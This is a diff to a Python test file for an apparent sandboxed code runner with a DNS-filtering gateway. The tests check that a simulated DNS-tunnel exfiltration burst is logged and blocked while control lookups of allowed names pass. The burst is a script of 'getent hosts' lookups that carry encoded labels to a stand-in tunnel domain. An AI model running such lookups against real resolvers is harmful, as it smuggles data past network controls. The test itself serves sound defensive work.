@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import secrets
 import time
 from collections.abc import Callable
 from pathlib import Path
@@ -56,18 +57,28 @@ def test_denied_name_gets_nxdomain_and_is_logged(
     assert got[1]["ok"] and got[1]["detail"] == internet.ip
     denied = result.dns(qname="evil.example.test", qtype="A")
     assert denied and denied[0].verdict == "deny" and denied[0].rule == "deny evil.example.test/any"
-    assert "DNS evil.example.test" not in internet.logs(mark)
+    seen = internet.logs(mark)
+    assert "DNS evil.example.test" not in seen
+    assert "DNS api.example.test" in seen  # control: the allowed one was looked up upstream
+
+
+MODES = ("enforce", "ask")
 
 
 def test_dns_tunnel_burst_leaves_nothing_upstream(
     run_coderun: Callable[..., Result],
     internet: DemoInternet,
+    tmp_path: Path,
 ) -> None:
     labels = [f"c2vjcmv0{n:03d}x.tunnel.example.test" for n in range(40)]
-    script = ";".join(f"getent hosts {name}" for name in labels)
+    controls = {mode: f"ctl-{mode}-{secrets.token_hex(3)}.example.test" for mode in MODES}
     mark = len(internet.logs())
-    for mode in ("enforce", "ask"):
+    for mode in MODES:
+        script = ";".join(f"getent hosts {name}" for name in [*labels, controls[mode]])
+        allow = f'[[rule]]\naction = "allow"\nhost = "{controls[mode]}"\n'
         result = run_coderun(
+            "--policy",
+            policy(tmp_path, allow),
             "--mode",
             mode,
             "--prompt",
@@ -82,7 +93,10 @@ def test_dns_tunnel_burst_leaves_nothing_upstream(
         assert result.status == 0, result.stderr
         lookups = {e.qname for e in result.log if e.kind == "dns"}
         assert set(labels) <= lookups  # every lookup was seen and logged ...
-    assert "tunnel.example.test" not in internet.logs(mark)  # ... and none left the gateway
+    seen = internet.logs(mark)
+    assert "tunnel.example.test" not in seen  # ... and none left the gateway
+    for mode in MODES:  # control: the allowed name after them did leave, in each run
+        assert f"DNS {controls[mode]} " in seen, (mode, seen)
 
 
 def test_plain_http_logs_method_url_status_and_sizes(
